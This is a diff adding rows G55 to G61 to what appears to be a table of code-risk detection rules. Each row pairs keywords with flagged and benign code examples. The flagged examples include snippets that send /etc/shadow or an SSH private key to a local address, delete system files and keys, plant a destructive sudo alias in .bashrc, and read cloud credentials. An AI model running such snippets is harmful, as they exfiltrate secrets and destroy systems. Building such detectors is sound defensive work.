@@ -109,6 +109,71 @@ export const CODE_ROWS: readonly CodeRow[] = [
     },
   },
   {
+    id: 'G55', name: 'A protected system or secret file the code opens is sent over the network', primitive: 'EXFILTRATION', score: 7,
+    ops: ['send'], objects: ['secretFile'], dests: [],
+    keywords: ['/', '~'],
+    examples: {
+      flag: ["import urllib.request\nwith open('/etc/shadow', 'rb') as f:\n    body = f.read()\nurllib.request.urlopen(urllib.request.Request('http://127.0.0.1:5758/submit', data=body))",
+        "const fs = require('fs');\nfetch('http://10.0.0.9:8080/in', { method: 'POST', body: fs.readFileSync('/root/.ssh/id_rsa') });"],
+      pass: ["with open('/etc/os-release') as f:\n    info = f.read()\nrequests.post('http://127.0.0.1:9000/report', json={'os': info})",
+        "requests.post(URL, files={'f': open('reports/q3.pdf', 'rb')})"],
+    },
+  },
+  {
+    id: 'G56', name: 'A system file or a secret file deleted by code', primitive: 'DESTRUCTION', score: 8,
+    ops: ['destroy'], objects: ['systemPath', 'secretFile'], dests: [],
+    keywords: ['remove', 'unlink', 'rmtree', 'delete', 'rm '],
+    examples: {
+      flag: ["from pathlib import Path\nPath('/etc/group').unlink()", "import os\nos.remove('/root/.ssh/authorized_keys')", "import shutil\nshutil.rmtree('/usr/lib/python3/dist-packages')"],
+      pass: ["import os\nos.remove('/tmp/build-cache.json')", "import shutil\nshutil.rmtree('./build')", "os.remove(os.path.join(tmpdir, 'etc.txt'))"],
+    },
+  },
+  {
+    id: 'G57', name: 'Code writes into a system directory or a shell start-up file', primitive: 'MANIPULATION', score: 5,
+    ops: ['persist'], objects: ['systemPath'], dests: [],
+    keywords: ['/etc/', '/usr/', '/bin/', '/sbin/', '/boot/', '/lib', '/root/', '/sys/', '/var/', 'windows', 'bashrc', 'profile', 'zshrc', 'fish'],
+    examples: {
+      flag: ["with open('/root/.bashrc', 'a') as f:\n    f.write('alias sudo=\"rm -rf /var/*\"\\n')", "shutil.copy('/etc/group', '/usr/copy_file')", "open('/usr/bin/python3', 'wb').write(payload)"],
+      pass: ["with open('/tmp/out.txt', 'w') as f:\n    f.write(report)", "shutil.copy('config.yaml', 'dist/config.yaml')", "job = cron.new(command='/usr/bin/python3 /opt/app/report.py')\ncron.write()", "with open(os.path.expanduser('~/notes.md'), 'a') as f:\n    f.write(line)"],
+    },
+  },
+  {
+    id: 'G58', name: 'Code opens a protected system or secret file', primitive: 'EXFILTRATION', score: 4,
+    ops: [], objects: ['secretFile'], dests: [],
+    keywords: ['/', '~'],
+    examples: {
+      flag: ["with open('/etc/shadow') as f:\n    print(f.read())", "data = open('../../../etc/passwd').read()", "print(open(os.path.expanduser('~/.aws/credentials')).read())"],
+      pass: ["with open('/etc/hostname') as f:\n    print(f.read())", "open('fixtures/etc/passwd').read()", "client.connect('build-01', username='ci', key_filename='/home/ci/.ssh/id_ed25519')", "var key = fs.readFileSync(common.fixturesDir + '/keys/agent1-key.pem');", "with open('/usr/share/dict/words') as f:\n    words = f.read().split()"],
+    },
+  },
+  {
+    id: 'G59', name: 'Code that says it carries out a destructive attack (ransomware, wiper, flood)', primitive: 'DESTRUCTION', score: 6,
+    ops: [], objects: ['selfDestroy'], dests: [],
+    keywords: ['ransomware', 'wiper', 'ddos', 'dos attack', 'flood', 'amplification', 'slowloris', 'bomb', 'rançongiciel', 'erpressungstrojaner', 'rescate'],
+    examples: {
+      flag: ['def ransomware_encrypt_home(key: bytes) -> None:\n    """\n    This function simulates a ransomware attack by encrypting every file under the home directory.\n    """', '# launches a SYN flood against the target host\nwhile True:\n    send_syn(target)'],
+      pass: ['def detect_ransomware(events):\n    """Detects ransomware by watching for mass file renames."""', '# rate limiter that blocks a SYN flood at the edge\nlimiter = TokenBucket(100)'],
+    },
+  },
+  {
+    id: 'G60', name: 'Code that says it spies on the user or steals data (spyware, keylogger, stealer)', primitive: 'EXFILTRATION', score: 6,
+    ops: [], objects: ['selfSteal'], dests: [],
+    keywords: ['spyware', 'keylogger', 'stealer', 'exfiltration', 'espion', 'espía', 'spionage'],
+    examples: {
+      flag: ['def spyware_capture(output_file: str) -> None:\n    """\n    This function simulates a spyware attack by capturing keystrokes and screenshots.\n    """', '// this program acts as a keylogger and mails the log every hour'],
+      pass: ['def scan_for_keylogger(procs):\n    """Identifies keylogger processes by their hooks."""', '# YARA rule loader for spyware signatures'],
+    },
+  },
+  {
+    id: 'G61', name: 'Code that says it plants a foothold (rootkit, backdoor, trojan, worm, botnet)', primitive: 'PERSISTENCE', score: 6,
+    ops: [], objects: ['selfFoothold'], dests: [],
+    keywords: ['rootkit', 'backdoor', 'trojan', 'virus', 'worm', 'botnet', 'adware', 'cryptojacker', 'cryptominer', 'dérobée', 'trasera', 'hintertür'],
+    examples: {
+      flag: ['def rootkit_hide_process(pid: int) -> None:\n    """\n    This function simulates a rootkit attack by hiding the process from the process list.\n    """', '# implement a backdoor that accepts commands on port 31337'],
+      pass: ['def remove_rootkit(host):\n    """Cleans a rootkit found by the scanner and reboots."""', '# protect the admin route against a backdoor login'],
+    },
+  },
+  {
     id: 'G23', name: 'Sensitive data read and sent to an outside host', primitive: 'EXFILTRATION', score: 8,
     ops: ['send'], objects: ['secret', 'personal', 'keystrokes', 'screen', 'formSecret'], dests: ['external', 'capture'],
     keywords: ['http', 'sendbeacon', 'smtplib', 'ftplib', 'socket'],
